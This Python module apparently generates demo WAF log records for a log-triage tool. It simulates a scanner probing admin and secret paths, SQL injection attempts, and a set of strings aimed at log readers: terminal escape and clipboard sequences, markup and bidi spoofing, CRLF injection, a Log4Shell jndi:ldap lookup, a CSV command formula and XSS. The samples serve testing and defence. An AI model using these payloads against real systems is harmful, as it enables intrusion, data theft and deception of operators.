"""The attack on the shop's front door: a scanner, its friends, and SQL injection."""

from dataclasses import dataclass
from datetime import datetime, timedelta
from random import Random

from triage_tui.demo.cast import (
    INJECTORS,
    SCANNER,
    SCANNER_FRIENDS,
    Scene,
    Scripted,
    clock,
    dice,
    spread,
)
from triage_tui.demo.web import (
    ADMIN_GROUP,
    ALLOWED,
    GROUPS,
    SQLI_GROUP,
    THROTTLED,
    Match,
    Request,
    Verdict,
    Visitor,
    waf_record,
)

ADMIN_PATHS = (
    "/wp-admin/", "/wp-admin/setup-config.php", "/wp-admin/install.php", "/wp-login.php",
    "/phpmyadmin/", "/phpmyadmin/index.php", "/phpMyAdmin/scripts/setup.php", "/pma/",
    "/mysqladmin/", "/dbadmin/", "/administrator/index.php", "/admin/login", "/manager/html",
)  # fmt: skip
SECRET_PATHS = (
    "/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/.aws/credentials",
    "/backup.sql", "/dump.sql.bak", "/config.php.bak", "/web.config", "/id_rsa", "/.htpasswd",
)  # fmt: skip
OTHER_PATHS = (
    "/xmlrpc.php", "/wp-content/plugins/hello.php", "/wp-json/wp/v2/users", "/server-status",
    "/actuator/env", "/actuator/heapdump", "/cgi-bin/test.cgi", "/vendor/phpunit/phpunit/LICENSE",
    "/solr/admin/info/system", "/console/", "/owa/auth/logon.aspx", "/api/v1/pods",
)  # fmt: skip
SCANNER_AGENT = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://scan.example.org/)"
DISGUISE = "Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0"
FRIENDS_AGENTS = ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "python-requests/2.31.0")
TOOLS = ("Nmap", "Nikto")
INJECTOR_AGENT = "sqlmap/1.8.2#stable (https://sqlmap.example.org)"

WATCHED_ADMIN = Match(ADMIN_GROUP, "AdminProtection_URIPATH", "AdminProtection_URIPath")
EXTENSION = Match(GROUPS[0], "RestrictedExtensions_URIPATH", "RestrictedExtensions_URIPath")
BAD_BOT = Match(GROUPS[0], "UserAgent_BadBots_HEADER", "BadBots_Header")
CROSS_SITE = Match(GROUPS[0], "CrossSiteScripting_URIPATH", "CrossSiteScripting_URIPath")

# The file that gave the key away: asked for once, and allowed.
LEAK = clock("01:54:08")
LEAK_PATH = "/.env.backup"

SQLI = (
    ("id=1%27%20OR%20%271%27%3D%271", ("1'", "OR", "'1'='1")),
    ("id=-1%20UNION%20SELECT%20user,password%20FROM%20users--", ("UNION", "SELECT")),
    ("sort=price;WAITFOR%20DELAY%20%270:0:5%27--", ("WAITFOR", "DELAY")),
    ("id=1%20AND%20SLEEP(5)", ("AND", "SLEEP(")),
    ("q=%27;DROP%20TABLE%20orders;--", ("';", "DROP", "TABLE")),
)
SQLI_ENCODED_TWICE = (
    ("id=1%2527%2520OR%2520%25271%2527%253D%25271", ("1'", "OR", "'1'='1")),
    ("q=%2527%2520UNION%2520SELECT%2520null%252Cversion()--", ("UNION", "SELECT")),
)

# Text that attacks whoever reads the log: terminals, markup, eyes.
HOSTILE = (
    ("\x1b]0;owned\x07\x1b[2J\x1b[31mscan", "/wp-admin/", ""),
    ("\x1b]52;c;ZWNobyBvd25lZA==\x07", "/phpmyadmin/", ""),
    ("[/red][bold]scan[/bold] [link=https://example.org]x[/link]", "/wp-login.php", "x=[/red]"),
    ("\u202egnp.exe\u2066 \u200bscan\u200d", "/\u202ephp.nimda/", ""),
    ("扫描器/一.二 全角文字列で幅を壊す", "/管理/ログイン.php", "名前=値"),
    ("\x9b31m\x90scan\x9c", "/wp-admin/%1b[2J", "a=%0d%0aSet-Cookie:%20x"),
    ("${jndi:ldap://203.0.113.91/a}", "/?x=${jndi:dns://example.org}", ""),
    ("=cmd|' /C calc'!A1", '/"><script>alert(1)</script>', "a=`id`"),
)


@dataclass(frozen=True, slots=True)
class Wave:
    """Requests of one phase: between two times, most of them at `peak` (0 to 1)."""

    begins: datetime
    ends: datetime
    requests: int
    peak: float


PROBING = Wave(clock("01:46:12"), clock("01:58:00"), 310, 0.4)
HURRYING = Wave(clock("01:58:00"), clock("02:07:30"), 460, 0.8)
FLOODING = Wave(clock("02:07:30"), clock("02:21:40"), 1180, 0.45)


def front_door() -> Scene:
    """All that WAF saw of the attackers."""
    yield from scanner()
    yield from friends()
    yield from injection_from_the_scanner()
    yield from injection_over_ipv6()
    yield from hostile_strings()


def scanner() -> Scene:
    """203.0.113.77: disguised and watched at first, then refused in part, then throttled."""
    rng = dice("scanner")
    open_face, disguised = (Visitor(SCANNER, "NL", a, "en") for a in (SCANNER_AGENT, DISGUISE))
    yield waf_record(rng, LEAK, disguised, Request(LEAK_PATH))
    for at in _times(rng, PROBING):
        yield _knock(rng, at, disguised)
    for at in _times(rng, HURRYING):
        yield _knock(rng, at, rng.choice((open_face, open_face, disguised)))
    for at in _times(rng, FLOODING):
        yield waf_record(rng, at, open_face, Request(_path(rng)), THROTTLED)


def _knock(rng: Random, at: datetime, visitor: Visitor) -> Scripted:
    path = _path(rng)
    return waf_record(rng, at, visitor, Request(path), _judged(path, visitor.agent))


def _times(rng: Random, wave: Wave) -> list[datetime]:
    width = (wave.ends - wave.begins).total_seconds()
    offsets = sorted(rng.triangular(0, width, width * wave.peak) for _ in range(wave.requests))
    return [wave.begins + timedelta(milliseconds=int(x * 1000)) for x in offsets]


def _path(rng: Random) -> str:
    kind = rng.random()
    if kind < 0.5:
        return rng.choice(ADMIN_PATHS)
    return rng.choice(SECRET_PATHS if kind < 0.8 else OTHER_PATHS)


def _judged(path: str, agent: str) -> Verdict:
    """What the managed rules make of it; the one for admin pages only counts."""
    if path.endswith((".bak", ".config", ".sql")):
        return Verdict(ended_by=EXTENSION)
    if "<script" in path:
        return Verdict(ended_by=CROSS_SITE)
    if any(tool in agent for tool in TOOLS):
        return Verdict(ended_by=BAD_BOT)
    return Verdict(counted=(WATCHED_ADMIN,)) if path in ADMIN_PATHS else ALLOWED


def friends() -> Scene:
    """Three more addresses of the same /24, slower and in turn."""
    rng = dice("friends")
    for address in SCANNER_FRIENDS:
        visitors = [Visitor(address, "NL", agent, "en") for agent in FRIENDS_AGENTS]
        for at in spread(rng, clock("01:49:00"), clock("02:24:00"), 88):
            yield _knock(rng, at, rng.choice(visitors))


def injection_from_the_scanner() -> Scene:
    """The scanner tries the shop's parameters too."""
    rng = dice("injection")
    visitor = Visitor(SCANNER, "NL", INJECTOR_AGENT, "en")
    for at in spread(rng, clock("02:02:00"), clock("02:07:20"), 150):
        yield from _injection(rng, at, visitor)


def injection_over_ipv6() -> Scene:
    """Four addresses of one /64, with nobody good beside them."""
    rng = dice("injection over ipv6")
    visitors = [Visitor(address, "NL", INJECTOR_AGENT, "en") for address in INJECTORS]
    for at in spread(rng, clock("02:04:00"), clock("02:19:30"), 260):
        yield from _injection(rng, at, rng.choice(visitors))


def _injection(rng: Random, at: datetime, visitor: Visitor) -> Scene:
    """One payload, stopped; those encoded twice by the rule with the wider patterns."""
    twice = rng.random() < 0.3
    args, fragments = rng.choice(SQLI_ENCODED_TWICE if twice else SQLI)
    rule = "SQLiExtendedPatterns_QUERYARGUMENTS" if twice else "SQLi_QUERYARGUMENTS"
    match = Match(
        SQLI_GROUP,
        rule,
        rule.replace("QUERYARGUMENTS", "QueryArguments"),
        (
            {
                "conditionType": "SQL_INJECTION",
                "location": "ALL_QUERY_ARGS",
                "matchedData": list(fragments),
                "matchedFieldName": args.partition("=")[0],
                "sensitivityLevel": "HIGH" if twice else "LOW",
            },
        ),
    )
    uri = rng.choice(("/search", "/products", "/api/v2/orders"))
    yield waf_record(rng, at, visitor, Request(uri, args), Verdict(ended_by=match))


def hostile_strings() -> Scene:
    """203.0.113.78 writes for the readers of the log."""
    rng = dice("hostile strings")
    moments = spread(rng, clock("01:57:00"), clock("02:12:00"), len(HOSTILE))
    for at, (agent, uri, args) in zip(moments, HOSTILE, strict=True):
        visitor = Visitor(SCANNER_FRIENDS[0], "NL", agent, "en")
        yield waf_record(rng, at, visitor, Request(uri, args), _judged(uri, agent))
